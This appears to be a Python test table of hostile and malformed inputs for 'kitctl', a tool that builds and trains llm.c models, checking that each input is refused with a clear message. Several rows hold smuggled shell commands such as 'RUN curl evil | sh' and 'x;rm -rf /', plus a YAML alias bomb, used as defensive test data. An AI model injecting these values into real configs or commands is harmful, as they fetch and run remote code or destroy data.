"""The hostile cases, one row each: argv, what to set up, what must come out (see harness.py for the world).

``area=`` marks a case whose root fix lives in another area's package; it runs as xfail(strict=True) so that the
day the fix is merged, the XPASS fails the suite and the lead removes the mark.
"""
from __future__ import annotations

import os
from pathlib import Path
from typing import Optional

from harness import MAIN_LOG, Case, Result, make_full_disk, make_readonly

# argv prefixes that plan without GPUs, Docker or downloads
TRAIN = ["train", "--inventory", "two.csv", "--mpirun", "/bin/true", "--data", "data/shards", "--steps", "10",
         "--dry-run"]
REPRO = ["reproduce", "--inventory", "two.csv", "--mpirun", "/bin/true", "--dry-run"]
TUNE = ["tune", "--inventory", "two.csv", "--mpirun", "/bin/true", "--data", "data/shards", "--dry-run"]
TB = ["tensorboard", "r1", "--no-serve", "--no-follow"]
DATA = ["data", "input.txt", "--runtime", "native", "--dry-run"]
SLURM = [*TRAIN, "--launcher", "slurm", "--shared-dir", "{cwd}/data", "--image", "llmc-kit:latest"]     # {cwd}: the world's cwd, absolute
SLURM_WRITE = [*TRAIN[:-1], "--launcher", "slurm", "--shared-dir", "{cwd}/data", "--image", "llmc-kit:latest"]   # writes sbatch.sh, submits nothing
BUILD = ["build", "--dry-run", "--runtime", "docker"]
CONFIG = ["render", "--stdout"]      # loads kit.yaml and prints; nothing else

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
MATPLOTLIB = ("home/.cache/matplotlib*", "home/.config/matplotlib*", "home/.cache", "home/.config")  # its font cache
TOKENIZER_CACHES = ("cwd/data/tiktoken*", "cwd/data/gpt2_tokenizer.bin")    # complete cache files, reused later
PEM = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"


def _fail() -> None:
    raise AssertionError("the old file changed")


def ro(name: str):
    return lambda cwd: make_readonly(cwd / name)


def full(name: str, keep: Optional[dict[str, str]] = None):
    """Setup: cwd/<name> is a full disk (holding ``keep`` files)."""
    return lambda cwd: make_full_disk(cwd / name, keep)


def no_path(*rels: str):
    """Check: none of these (relative to cwd) exists after the run."""
    def check(r: Result) -> None:
        for rel in rels:
            assert not os.path.lexists(r.cwd / rel), f"{rel} exists after the run"
    return check


def fake_llmc(cwd: Path) -> None:
    src = cwd / "llmc-src"
    (src / "dev").mkdir(parents=True)
    (src / "train_gpt2.cu").write_text("// llm.c\n")
    (src / "Makefile").write_text("all:\n")
    (src / ".env").write_text("HF_TOKEN=hf_secret\n")
    (src / "dev" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")


def no_secrets_in(folder: str):
    def check(r: Result) -> None:
        leaked = [p for p in (r.cwd / folder).rglob("*") if p.name in (".env", "id_rsa")]
        assert not leaked, f"secrets copied into the build context: {leaked}"
    return check


def reads_back(path: Path, data_root_name: str) -> None:
    from kitctl.core.config import load_config

    assert load_config(path, environ={}).data_root.name == data_root_name


def not_empty(rel: str):
    def check(r: Result) -> None:
        assert (r.cwd / rel).stat().st_size > 0, f"{rel} is still empty"
    return check


def replaced(rel: str, old: bytes):
    def check(r: Result) -> None:
        assert (r.cwd / rel).read_bytes() != old, f"{rel} (damaged) was reused as it was"
    return check


def says_quoted(path_part: str):
    def check(r: Result) -> None:
        import shlex

        line = next((ln for ln in r.out.splitlines() if "sbatch " in ln and "submit" in ln), "")
        cmd = line.split("submit it with:", 1)[-1].split("(or", 1)[0].strip()
        try:
            words = shlex.split(cmd)
        except ValueError:
            words = []
        assert len(words) == 2 and path_part in words[1], f"not shell-quoted: {line!r}"
    return check


def checkpoint(cwd: Path) -> None:
    """runs/ck: one complete llm.c checkpoint (L=2, C=64: tests/model/llmc_ref.py writes it as train_gpt2cu does)."""
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "model"))
    import llmc_ref

    run = cwd / "data" / "runs" / "ck"
    run.mkdir(parents=True)
    params, dims = llmc_ref.random_params(T=32, V=50257, L=2, H=4, C=64, Vp=50304, seed=0)
    llmc_ref.write_checkpoint(run / "model_00000010.bin", params, dims, version=3)
    (run / "DONE_00000010").write_text("")
    (run / "main.log").write_text(MAIN_LOG)


def C(id: str, argv: list[str], code: int = 2, says=(), **kw) -> Case:
    return Case(id, argv, code, tuple([says] if isinstance(says, str) else says), **kw)


CASES: list[Case] = [
    # ---------------------------------------------------------------- usage errors (click/typer), every verb
    C("bare-kitctl", [], says=["no command given", "--help"]),
    C("unknown-verb", ["trian"], says=["no such command", "--help"]),
    C("build-dryrun-typo", ["build", "--dryrun"], says=["no such option: --dryrun", "--dry-run"]),
    C("data-verify-no-dir", ["data", "verify"], says=["missing argument", "--help"]),
    C("train-steps-many", ["train", "--steps", "many", "--dry-run"], says=["'--steps'", "--help"]),
    C("tune-min-b-word", ["tune", "--min-b", "eight", "--dry-run"], says="--min-b"),
    C("config-option-without-value", ["-c"], says="requires an argument"),
    C("init-unknown-option", ["init", "--data_root", "x"], says="no such option"),
    C("doctor-extra-argument", ["doctor", "extra"], says="unexpected extra argument"),
    C("render-unknown-option", ["render", "--output", "x"], says="no such option"),
    C("smoke-np-not-a-number", ["smoke", "--np", "two"], says="--np"),
    C("export-unknown-option", ["export", "--fmt", "sif"], says="no such option"),
    C("data-recipes-extra", ["data", "recipes", "extra"], says="unexpected extra argument"),
    C("tensorboard-port-word", [*TB, "--port", "http"], says="--port"),
    C("tensorboard-interval-word", [*TB, "--interval", "soon"], says="--interval"),
    C("status-two-runs", ["status", "r1", "r2"], says="unexpected extra argument"),
    C("report-label-missing-value", ["report", "r1", "--label"], says="requires an argument"),
    C("demo-steps-word", ["demo", "--steps", "many"], says="--steps"),
    C("train-micro-batch-float", [*TRAIN, "--micro-batch", "1.5"], says="--micro-batch"),

    # ---------------------------------------------------------------- kit.yaml and the environment
    C("config-is-a-folder", ["-c", ".", *CONFIG], says="is a folder"),
    C("config-missing", ["-c", "nope.yaml", *CONFIG], says="does not exist"),
    C("config-env-missing", CONFIG, env={"KIT_CONFIG": "nope.yaml"}, says="does not exist"),
    C("config-binary", ["-c", "bin.yaml", *CONFIG], files={"bin.yaml": b"\x7fELF\x02\x01\x00\x00" * 64},
      says="binary"),
    C("config-latin1", ["-c", "l1.yaml", *CONFIG], files={"l1.yaml": "data_root: /m\xe9dia\n".encode("latin-1")},
      says="utf-8"),
    C("config-alias-bomb", ["-c", "bomb.yaml", *CONFIG], files={"bomb.yaml": BOMB}, says="aliases"),
    C("config-too-large", ["-c", "big.yaml", *CONFIG], files={"big.yaml": "# x\n" * 400_000}, says="too large"),
    C("config-not-a-mapping", ["-c", "l.yaml", *CONFIG], files={"l.yaml": "- data_root\n- arch\n"}, says="mapping"),
    C("config-bad-syntax", ["-c", "s.yaml", *CONFIG], files={"s.yaml": "data_root: [unclosed\n"},
      says="not valid yaml"),
    C("config-typo-key", ["-c", "t.yaml", *CONFIG], files={"t.yaml": "data_rot: /big\n"},
      says=["data_rot", "unknown"]),
    C("config-typo-nested-key", ["-c", "t.yaml", *CONFIG], files={"t.yaml": "mirrors:\n  pip: https://m/simple\n"},
      says="mirrors.pip"),
    C("config-symlink-loop", ["-c", "loop.yaml", *CONFIG],
      setup=lambda cwd: os.symlink("loop.yaml", cwd / "loop.yaml"), says="loop.yaml"),
    C("config-huge-value-not-echoed", ["-c", "h.yaml", *CONFIG], files={"h.yaml": "provider: " + "x" * 200_000 + "\n"},
      says="provider"),
    C("config-arch-8.65", ["-c", "a.yaml", *CONFIG], files={"a.yaml": "arch: '8.65'\n"}, says="8.65"),
    C("config-data-root-null", ["-c", "e.yaml", *CONFIG], files={"e.yaml": "data_root:\n"}, says="data_root"),
    C("config-data-root-is-a-file", ["-c", "f.yaml", *CONFIG], files={"f.yaml": "data_root: input.txt\n"},
      says=["input.txt", "is a file"]),
    C("config-data-root-under-a-file", ["-c", "f.yaml", *CONFIG], files={"f.yaml": "data_root: input.txt/data\n"},
      says="which is a file"),
    C("config-data-root-unexpanded-var", ["-c", "v.yaml", *CONFIG], files={"v.yaml": "data_root: $HOME/big\n"},
      says="$variable"),
    C("env-data-root-empty", CONFIG, env={"KIT_DATA_ROOT": ""}, says=["kit_data_root", "empty"]),
    C("env-data-root-is-a-file", CONFIG, env={"KIT_DATA_ROOT": "input.txt"}, says="is a file"),
    C("env-arch-8.65", CONFIG, env={"KIT_ARCH": "8.65"}, says="8.65"),
    C("env-provider-unknown", CONFIG, env={"KIT_PROVIDER": "cuda"}, says="provider"),
    C("env-unknown-field", CONFIG, env={"KIT_DATAROOT": "/big"}, says="dataroot"),
    C("env-apt-mirror-with-space", CONFIG, env={"KIT_MIRRORS__APT": "http://m x"}, says="mirrors.apt"),
    C("config-apt-mirror-injects-run", ["-c", "m.yaml", *CONFIG],
      files={"m.yaml": 'mirrors:\n  apt: "http://m\\nRUN curl evil | sh"\n'}, says="control character"),
    C("config-registry-injects-run", ["-c", "m.yaml", *CONFIG],
      files={"m.yaml": 'mirrors:\n  registry: "docker.io\\nRUN id"\n'}, says="mirrors.registry"),
    C("config-registry-with-scheme", ["-c", "m.yaml", *CONFIG], files={"m.yaml": "mirrors:\n  registry: https://m\n"},
      says="registry prefix"),
    C("config-pip-index-ftp", ["-c", "m.yaml", *CONFIG], files={"m.yaml": "mirrors:\n  pip_index: ftp://m/simple\n"},
      says="mirrors.pip_index"),
    C("config-base-image-with-space", ["-c", "b.yaml", *CONFIG], files={"b.yaml": "base_image: 'debian:bookworm AS x'\n"},
      says="docker image reference"),
    C("config-image-upper-case", ["-c", "i.yaml", *CONFIG], files={"i.yaml": "image: LLMC\n"},
      says="image repository name"),
    C("config-ca-cert-not-pem", ["-c", "c.yaml", *CONFIG], files={"c.yaml": "ca_cert: input.txt\n"},
      says="not a pem certificate bundle"),
    C("config-ca-cert-missing", ["-c", "c.yaml", *CONFIG], files={"c.yaml": "ca_cert: nope.pem\n"},
      says="no such file"),
    C("config-nccl-env-bad-name", ["-c", "n.yaml", *CONFIG], files={"n.yaml": "nccl:\n  extra_env:\n    'A B': '1'\n"},
      says="environment variable name"),

    # ---------------------------------------------------------------- init
    C("init-exists", ["init"], says="already exists"),
    C("init-into-a-folder", ["init", "data"], says="is a folder"),
    C("init-under-a-file", ["init", "input.txt/kit.yaml"], says="is a file"),
    C("init-read-only-folder", ["init", "ro/kit.yaml"], setup=ro("ro"), says="read-only"),
    C("init-data-root-newline-injects-key", ["init", "new.yaml", "--data-root", "x\nruntime: docker"],
      says="control character"),
    C("init-stdout-data-root-empty", ["init", "--stdout", "--data-root", " "], says="empty"),
    C("init-user-without-data-root", ["init", "--user"], says="--user needs --data-root"),
    C("init-user-relative-data-root", ["init", "--user", "--data-root", "big"], says="absolute"),
    C("init-user-and-a-path", ["init", "--user", "x.yaml", "--data-root", "/big"], says="two places"),
    C("init-user-and-stdout", ["init", "--user", "--stdout", "--data-root", "/big"], says="--stdout"),
    C("init-new-parent-ok", ["init", "sub/dir/kit.yaml", "--data-root", "a: b"], code=0,
      may_change=("cwd/sub*",), check=lambda r: reads_back(r.cwd / "sub/dir/kit.yaml", "a: b")),

    # ---------------------------------------------------------------- doctor
    C("doctor-inventory-missing", ["doctor", "--inventory", "nope.csv"], says="does not exist"),
    C("doctor-for-unknown-purpose", ["doctor", "--for", "gaming"], says="data, build, train, multi-node"),

    # ---------------------------------------------------------------- build
    C("build-arch-8.65", [*BUILD, "--arch", "8.65"], says="8.65"),
    C("build-arch-auto-inventory-missing", [*BUILD, "--arch", "auto", "--inventory", "nope.csv"],
      says="does not exist"),
    C("build-provider-unknown", [*BUILD, "--provider", "cuda"], says="provider"),
    C("build-cuda-unknown", [*BUILD, "--cuda", "banana"], says="banana"),
    C("build-target-unknown", [*BUILD, "--target", "everything"], says="everything"),
    C("build-runtime-unknown", ["build", "--dry-run", "--runtime", "podman"], says="podman"),
    C("build-base-image-injects-run", [*BUILD, "--base-image", "debian\nRUN curl evil"],
      says="is not valid"),
    C("build-base-image-not-a-ref", [*BUILD, "--base-image", "debian bookworm"],
      says="docker image reference"),
    C("build-ca-cert-missing", [*BUILD, "--ca-cert", "nope.pem"], says="no such file"),
    C("build-ca-cert-not-pem", [*BUILD, "--ca-cert", "input.txt"], says="not a pem certificate bundle"),
    C("build-ca-cert-folder", [*BUILD, "--ca-cert", "data"], says="is a folder"),
    C("build-ca-cert-empty", [*BUILD, "--ca-cert", "e.pem"], files={"e.pem": ""}, says="pem"),
    C("build-llmc-src-missing", [*BUILD, "--llmc-src", "nope"], says="nope"),
    C("build-build-dir-is-a-file", [*BUILD, "--build-dir", "input.txt"], says="is a file"),
    C("build-native-out-is-a-file", ["build", "--dry-run", "--runtime", "native", "--out", "input.txt"],
      says="is a file"),
    C("build-native-out-read-only", ["build", "--dry-run", "--runtime", "native", "--out", "ro/bin"],
      setup=ro("ro"), says="read-only"),

    # ---------------------------------------------------------------- render
    C("render-out-is-a-file", ["render", "--out", "input.txt"], says="is not a folder"),
    C("render-out-under-a-file", ["render", "--out", "input.txt/ctx"], says="is a file"),
    C("render-out-read-only", ["render", "--out", "ro/ctx"], setup=ro("ro"), says="not writable"),
    C("render-arch-8.65", ["render", "--stdout", "--arch", "8.65"], says="8.65"),
    C("render-provider-unknown", ["render", "--stdout", "--provider", "rocm"], says="rocm"),
    C("render-base-image-injects-run", ["render", "--stdout", "--base-image", "x\nRUN id"], says="is not valid"),
    C("render-out-non-empty-user-folder", ["render", "--out", "mine"],
      files={"mine/thesis.tex": "years of work\n", "mine/notes/a.txt": "x\n"},
      says=["mine", "kitctl replaces only folders it made"]),
    C("render-llmc-src-secrets-stay-out", ["render", "--out", "ctx", "--llmc-src", "llmc-src"], code=0,
      setup=fake_llmc, may_change=("cwd/ctx*",), check=no_secrets_in("ctx")),

    # ---------------------------------------------------------------- docker/images.lock (kitctl lock)
    C("render-lock-injects-run", ["render", "--stdout", "--lock", "bad.lock"],
      files={"bad.lock": f"[data]\nbase = debian:bookworm\ndigest = sha256:{'1' * 64}\nsource = registry\n"
                         "python3=3.11\nRUN id\n"}, says=["bad.lock: line 6", "not an apt name=version"]),
    C("render-lock-unknown-stage", ["render", "--stdout", "--lock", "bad.lock"],
      files={"bad.lock": "[everything]\n"}, says="unknown stage [everything]"),
    C("render-lock-binary", ["render", "--stdout", "--lock", "bad.lock"], files={"bad.lock": b"\xff\xfe\x00lock"},
      says="cannot read it"),
    C("render-lock-missing", ["render", "--stdout", "--lock", "nope.lock"], says="no such file"),
    C("build-apt-snapshot-not-a-date", [*BUILD, "--provider", "wheels"], env={"KIT_MIRRORS__APT_SNAPSHOT": "2025-06-01"},
      says="not a snapshot date"),
    C("build-apt-snapshot-with-apt-mirror", [*BUILD, "--provider", "wheels"],
      env={"KIT_MIRRORS__APT_SNAPSHOT": "20250601", "KIT_MIRRORS__APT": "https://mirror.example.org"}, says="both set"),
    C("build-update-lock-native", ["build", "--dry-run", "--runtime", "native", "--arch", "75", "--update-lock"],
      says="--update-lock"),
    C("build-source-date-epoch-not-a-number", [*BUILD, "--provider", "wheels", "--arch", "75"],
      env={"SOURCE_DATE_EPOCH": "yesterday"}, says="source_date_epoch"),

    # ---------------------------------------------------------------- smoke
    C("smoke-np-zero", ["smoke", "--np", "0"], says="--np"),
    C("smoke-np-negative", ["smoke", "--np", "-2"], says="--np"),
    C("smoke-arch-8.65", ["smoke", "--arch", "8.65", "--no-gpus"], says="8.65"),
    C("smoke-image-not-a-ref", ["smoke", "bad image\nname", "--no-gpus"], says="is not valid"),

    # ---------------------------------------------------------------- export
    C("export-format-unknown", ["export", "--format", "zip", "--dry-run"], says="zip"),
    C("export-output-is-a-folder", ["export", "--output", "data", "--dry-run"], says="is a folder"),
    C("export-output-read-only", ["export", "--output", "ro/x.sqsh", "--dry-run"], setup=ro("ro"), says="read-only"),
    C("export-output-under-a-file", ["export", "--output", "input.txt/x.sqsh", "--dry-run"], says="is a file"),
    C("export-image-not-a-ref", ["export", "Bad Image", "--dry-run"], says="image reference"),
    C("export-image-injects", ["export", "x;rm -rf /", "--dry-run"], says="image reference"),

    # ---------------------------------------------------------------- data make / verify / recipes / hellaswag
    C("data-recipe-unknown", ["data", "fineweb11B", "--dry-run"], says="fineweb11b"),
    C("data-workers-1000", [*DATA, "--workers", "1000"], says="--workers"),
    C("data-shard-size-zero", [*DATA, "--shard-size", "0"], says="--shard-size"),
    C("data-shard-size-negative", [*DATA, "--shard-size", "-100"], says="--shard-size"),
    C("data-shards-zero", ["data", "fineweb10B-pretokenized", "--shards", "0", "--dry-run", "--runtime", "native"],
      says="--shards"),
    C("data-name-is-a-path", [*DATA, "--name", "../evil"], says="--name"),
    C("data-name-with-space", [*DATA, "--name", "my data"], says="--name"),
    C("data-out-is-a-file", [*DATA, "--out", "input.txt"], says="is a file"),
    C("data-out-under-a-file", [*DATA, "--out", "input.txt/shards"], says="is a file"),
    C("data-out-read-only", [*DATA, "--out", "ro/shards"], setup=ro("ro"), says="read-only"),
    C("data-runtime-unknown", ["data", "input.txt", "--runtime", "podman", "--dry-run"], says="podman"),
    C("data-source-missing", ["data", "tinyshakespeare", "--source", "nope.txt", "--runtime", "native", "--dry-run"],
      says="nope.txt"),
    C("data-input-missing", ["data", "nope.txt", "--runtime", "native", "--dry-run"], says="nope.txt"),
    C("data-glob-matches-nothing", ["data", "nothing-*.txt", "--runtime", "native", "--dry-run"],
      says="nothing-*.txt"),
    C("data-tokenizer-dir-missing", [*DATA, "--tokenizer-dir", "nope"], says="nope"),
    C("data-tokenizer-dir-is-a-file", [*DATA, "--tokenizer-dir", "input.txt"], says="is a file"),
    C("data-empty-input-file", ["data", "empty.txt", "--runtime", "native", "--workers", "0"],
      files={"empty.txt": ""}, says="empty"),
    C("data-out-inside-input-folder", ["data", "texts", "--out", "texts/shards", "--runtime", "native", "--dry-run"],
      files={"texts/a.txt": "hello world\n" * 20}, says="inside"),
    C("data-data-root-read-only", DATA, env={"KIT_DATA_ROOT": "ro/data"}, setup=ro("ro"), says="read-only"),
    C("data-verify-missing", ["data", "verify", "nope"], says="nope"),
    C("data-verify-a-file", ["data", "verify", "input.txt"], says="input.txt"),
    C("data-verify-no-manifest", ["data", "verify", "data/shards"], says="manifest"),
    C("data-verify-binary-manifest", ["data", "verify", "bad"], files={"bad/manifest.json": b"\0\xff" * 2000},
      says="manifest.json", code=1),
    C("data-verify-huge-manifest-not-echoed", ["data", "verify", "bad"],
      files={"bad/manifest.json": '{"shards": "' + "x" * 300_000 + '"}'}, says="manifest.json", code=1),
    C("data-hellaswag-source-missing", ["data", "hellaswag", "--source", "nope.jsonl", "--runtime", "native",
                                        "--dry-run"], says="nope.jsonl"),
    C("data-hellaswag-empty-source", ["data", "hellaswag", "--source", "e.jsonl", "--runtime", "native"],
      files={"e.jsonl": ""}, says="empty"),
    C("data-hellaswag-not-json", ["data", "hellaswag", "--source", "g.jsonl", "--runtime", "native"],
      files={"g.jsonl": "this is not json\n"}, says="g.jsonl", may_change=TOKENIZER_CACHES),
    C("data-recipes-ok", ["data", "recipes"], code=0, says="tinyshakespeare"),

    # ---------------------------------------------------------------- train
    C("train-name-escapes-runs", [*TRAIN, "--name", "../../x"], says="--name", check=no_path("x", "data/x")),
    C("train-gpus-duplicate", [*TRAIN, "--gpus", "0,0"], says="repeated"),
    C("train-gpus-too-many", [*TRAIN, "--gpus", "5"], says="--gpus 5"),
    C("train-gpus-word", [*TRAIN, "--gpus", "both"], says="--gpus"),
    C("train-recompute-3", [*TRAIN, "--recompute", "3"], says="--recompute"),
    C("train-precision-fp8", [*TRAIN, "--precision", "fp8"], says="fp8"),
    C("train-total-batch-zero", [*TRAIN, "--total-batch", "0"], says="--total-batch"),
    C("train-preset-unknown", [*TRAIN, "--preset", "gpt5"], says="gpt5"),
    C("train-runtime-unknown", [*TRAIN, "--runtime", "podman"], says="podman"),
    C("train-data-missing", [*TRAIN, "--data", "nope"], says="no shard folder"),
    C("train-data-is-a-file", [*TRAIN, "--data", "input.txt"], says="input.txt"),
    C("train-data-empty-folder", [*TRAIN, "--data", "empty"], setup=lambda cwd: (cwd / "empty").mkdir(),
      says="no training shards"),
    C("train-data-bad-header", [*TRAIN, "--data", "bad"],
      files={"bad/x_val_000000.bin": b"\0" * 2048, "bad/x_train_000001.bin": b"\0" * 2048}, says="bad"),
    C("train-out-is-a-file", [*TRAIN, "--out", "input.txt"], says="is a file"),
    C("train-out-read-only", [*TRAIN, "--out", "ro/run"], setup=ro("ro"), says="read-only"),
    C("train-inventory-missing", [*TRAIN, "--inventory", "nope.csv"], says="does not exist"),
    C("train-binary-missing", ["train", "--inventory", "two.csv", "--mpirun", "/bin/true", "--data", "data/shards",
                               "--steps", "10", "--runtime", "native", "--binary", "nope"], says="nope"),
    C("train-passthrough-o-escapes-run-folder", [*TRAIN, "--", "-o", "/tmp/elsewhere"], says="-o is set by the kit"),
    C("train-launcher-unknown", [*TRAIN, "--launcher", "k8s"], says="k8s"),
    C("train-slurm-nodes-zero", [*SLURM, "--nodes", "0"], says="--nodes"),
    C("train-slurm-submit-and-dry-run", [*SLURM, "--submit"], says="--submit"),
    C("train-slurm-container-unknown", [*SLURM, "--container", "docker"], says="docker"),
    C("train-slurm-partition-newline", [*SLURM, "--partition", "gpu\n#SBATCH --uid=0"], says="--partition"),
    C("train-slurm-sbatch-opt-newline", [*SLURM, "--sbatch-opt", "--qos=x\nrm -rf ~"], says="sbatch option"),
    C("train-slurm-gpus-per-node-zero", [*SLURM, "--gpus-per-node", "0"], says="--gpus-per-node"),

    # ---------------------------------------------------------------- tune
    C("tune-min-b-zero", [*TUNE, "--min-b", "0"], says="--min-b"),
    C("tune-warmup-not-below-steps", [*TUNE, "--steps", "5", "--warmup", "5"], says="--warmup"),
    C("tune-gpus-duplicate", [*TUNE, "--gpus", "1,1"], says="repeated"),
    C("tune-precision-unknown", [*TUNE, "--precision", "int8"], says="int8"),
    C("tune-ok", TUNE, code=0, says="first config"),

    # ---------------------------------------------------------------- tensorboard
    C("tensorboard-port-70000", [*TB, "--port", "70000"], says="--port 70000"),
    C("tensorboard-interval-negative", [*TB, "--interval", "-1"], says="--interval"),
    C("tensorboard-host-bad", ["tensorboard", "r1", "--no-follow", "--host", "not a host"], says="--host"),
    C("tensorboard-not-a-run-folder", ["tensorboard", "data/shards", "--no-serve", "--no-follow"],
      says="data/shards", check=no_path("data/shards/tb")),
    C("tensorboard-run-unknown", ["tensorboard", "nope", "--no-serve", "--no-follow"], says="nope"),

    # ---------------------------------------------------------------- status
    C("status-run-unknown", ["status", "nope"], says="nope"),
    # no runs yet is a state, not a failure: exit 0 as `report` with nothing to plot (issue 29: one empty-state code)
    C("status-no-runs", ["status"], env={"KIT_DATA_ROOT": "empty-root"}, code=0, says="no runs",
      setup=lambda cwd: (cwd / "empty-root").mkdir()),
    C("status-damaged-run-json-says-so", ["status", "r1"], files={"data/runs/r1/run.json": b"\0\0garbage"}, code=0,
      says="run.json is unreadable"),
    C("status-binary-main-log", ["status", "r2"], files={"data/runs/r2/main.log": os.urandom(4096)}, code=0),

    # ---------------------------------------------------------------- report
    C("report-run-unknown", ["report", "nope"], says="nope"),
    C("report-out-bad-suffix", ["report", "r1", "--out", "report.txt"], says=".png"),
    C("report-out-is-a-folder", ["report", "r1", "--out", "out.png"], says="is a folder",
      setup=lambda cwd: (cwd / "out.png").mkdir()),
    C("report-out-no-suffix", ["report", "r1", "--out", "data"], says=".png or .html"),
    C("report-out-read-only", ["report", "r1", "--out", "ro/report.png"], setup=ro("ro"), says="ro/report.png",
      may_change=MATPLOTLIB),
    C("report-out-under-a-file", ["report", "r1", "--out", "input.txt/report.png"], says="cannot write the report"),
    C("report-too-many-labels", ["report", "r1", "--label", "a", "--label", "b"], says="label"),
    C("report-empty-main-log", ["report", "e.log"], files={"e.log": ""}, code=0, says=["nothing to plot", "e.log"],
      check=no_path("report.png")),
    C("report-ok", ["report", "r1", "--out", "out/report.html"], code=0, may_change=("cwd/out*", *MATPLOTLIB)),

    # ---------------------------------------------------------------- reproduce (plans every stage; --dry-run)
    C("reproduce-name-escapes-runs", [*REPRO, "--name", "../../x"], says="--name"),
    C("reproduce-workers-1000", [*REPRO, "--workers", "1000"], says="--workers"),
    C("reproduce-net-mbps-negative", [*REPRO, "--net-mbps", "-5"], says="--net-mbps"),
    C("reproduce-net-mbps-nan", [*REPRO, "--net-mbps", "nan"], says="--net-mbps"),
    C("reproduce-cpus-zero", [*REPRO, "--cpus", "0"], says="--cpus 0"),
    C("reproduce-price-negative", [*REPRO, "--price-per-gpu-hour", "-1"], says="--price-per-gpu-hour"),
    C("reproduce-shard-size-zero", [*REPRO, "--shard-size", "0"], says="--shard-size 0"),
    C("reproduce-inventory-missing", [*REPRO, "--inventory", "nope.csv"], says="nope.csv"),
    C("reproduce-dataset-unknown", [*REPRO, "--dataset", "nope"], says="unknown dataset"),
    C("reproduce-gpus-duplicate", [*REPRO, "--gpus", "0,0"], says="repeated"),
    C("reproduce-runtime-unknown", [*REPRO, "--runtime", "podman"], says="podman"),
    C("reproduce-source-missing", [*REPRO, "--source", "nope.txt"], says="nope.txt"),
    C("reproduce-binary-missing", [*REPRO, "--binary", "nope"], says="nope"),
    C("reproduce-json-without-dry-run", ["reproduce", "--inventory", "two.csv", "--json"], says="--json"),
    C("reproduce-ok", REPRO, code=0, says="steps"),
    # --inventory describes another box: it plans, it never runs here (exit 2, nothing written)
    C("reproduce-inventory-without-dry-run", REPRO[:-1], says=["--inventory", "add --dry-run"]),
    C("train-inventory-without-dry-run", TRAIN[:-1], says=["--inventory", "add --dry-run"]),
    C("tune-inventory-without-dry-run", TUNE[:-1], says=["--inventory", "add --dry-run"]),
    # a dataset that cannot make a val shard and a training shard is refused up front
    C("data-too-few-tokens", ["data", "tiny.txt", "--runtime", "native"], files={"tiny.txt": "hello world\n"},
      says="too few"),
    C("data-shard-size-leaves-no-training-data", [*DATA, "--shard-size", "1000000"], says="no training shard"),

    # ---------------------------------------------------------------- export-model / sample / eval (llm.c checkpoints)
    C("export-model-no-argument", ["export-model"], says="missing argument"),
    C("export-model-run-unknown", ["export-model", "nope"], says="nope"),
    C("export-model-no-checkpoint", ["export-model", "r1"], says="holds no llm.c checkpoint"),
    C("export-model-not-a-checkpoint", ["export-model", "input.txt"], says="not a usable llm.c model checkpoint"),
    C("export-model-format-unknown", ["export-model", "r1", "--format", "onnx"], says="--format onnx"),
    C("export-model-dtype-unknown", ["export-model", "ck", "--dtype", "fp8"], says="--dtype", setup=checkpoint),
    C("export-model-out-not-empty", ["export-model", "ck", "--out", "mine"], setup=checkpoint,
      files={"mine/thesis.tex": "years of work\n"}, says="mine"),
    C("export-model-out-is-a-file", ["export-model", "r1", "--out", "input.txt"], says="is a file"),
    C("export-model-push-not-a-repo", ["export-model", "r1", "--push", "not a repo"], says="--push"),
    C("sample-n-zero", ["sample", "ck", "-n", "0", "--backend", "numpy"], says="-n", setup=checkpoint),
    C("sample-temperature-negative", ["sample", "r1", "--temperature", "-1"], says="--temperature"),
    C("sample-backend-unknown", ["sample", "r1", "--backend", "torch"], says="--backend"),
    C("sample-run-unknown", ["sample", "nope"], says="nope"),
    C("eval-step-negative", ["eval", "r1", "--step", "-3"], says="--step -3"),

    # ---------------------------------------------------------------- demo
    C("demo-data-root-is-a-file", ["demo", "--data-root", "input.txt"], says="is a file"),
    # ---------------------------------------------------------------- a full disk (ENOSPC): exit 1 (not bad input:
    # the same command works once there is space), no partial file, the old file intact
    C("full-disk-init", ["init", "full/kit.yaml", "--force"], code=1, setup=full("full", {"kit.yaml": "data_root: x\n"}),
      says="disk is full", check=lambda r: (r.cwd / "full/kit.yaml").read_text() == "data_root: x\n" or _fail()),
    C("full-disk-report-png", ["report", "r1", "--out", "full/report.png"], code=1, setup=full("full"),
      says="space", may_change=MATPLOTLIB, check=no_path("full/report.png")),
    C("full-disk-report-html", ["report", "r1", "--out", "full/report.html"], code=1, setup=full("full"),
      says="space", may_change=MATPLOTLIB, check=no_path("full/report.html")),
    C("full-disk-sbatch-script", [*SLURM_WRITE, "--out", "{cwd}/full/run"], code=1, setup=full("full"), says="space",
      may_change=("cwd/full/run*",),   # the run folder (llm.c's cwd links) may stay; a partial script may not
      check=no_path("full/run/sbatch.sh")),
    C("full-disk-data", ["data", "input.txt", "--runtime", "native", "--workers", "0", "--out", "full/shards"], code=1,
      setup=full("full"), says="not enough disk space", may_change=TOKENIZER_CACHES,
      check=no_path("full/shards/manifest.json")),

    # ---------------------------------------------------------------- silently wrong data (must be noticed)
    C("data-empty-tokenizer-bin-replaced", ["data", "input.txt", "--runtime", "native", "--workers", "0"], code=0,
      files={"data/gpt2_tokenizer.bin": b""}, may_change=("cwd/data/*",), check=not_empty("data/gpt2_tokenizer.bin")),
    C("data-damaged-tiktoken-cache-replaced", ["data", "input.txt", "--runtime", "native", "--workers", "0"], code=0,
      files={"data/tiktoken/6d1cbeee0f20b3d9449abfede4726ed8212e3aee": b"garbage"}, may_change=("cwd/data/*",),
      check=replaced("data/tiktoken/6d1cbeee0f20b3d9449abfede4726ed8212e3aee", b"garbage")),
    C("train-slurm-submit-hint-is-shell-quoted", [*SLURM_WRITE, "--out", "{cwd}/it's/r1"], code=0,
      may_change=("cwd/it's*",), check=says_quoted("it's/r1/sbatch.sh")),

    C("demo-data-root-read-only", ["demo", "--data-root", "ro/demo"], setup=ro("ro"), says="read-only"),
]
